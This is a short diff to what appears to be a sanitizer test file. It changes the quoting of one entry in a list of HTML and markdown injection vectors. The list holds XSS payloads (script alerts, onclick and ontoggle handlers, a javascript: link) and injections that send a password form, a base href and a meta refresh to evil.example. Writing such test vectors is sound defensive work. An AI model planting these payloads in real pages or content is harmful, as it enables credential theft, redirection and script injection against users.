@@ -23,7 +23,7 @@ VECTORS = [
     "<form action=https://evil.example><input name=password></form>",
     "<base href='https://evil.example/'>",
     "<style>body{display:none}</style>",
-    "```html\" onclick=alert(1)\n<script>alert(1)</script>\n```",
+    '```html" onclick=alert(1)\n<script>alert(1)</script>\n```',
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "[x]: javascript:alert(1)\n\n[x]",
     "<details open ontoggle=alert(1)>",
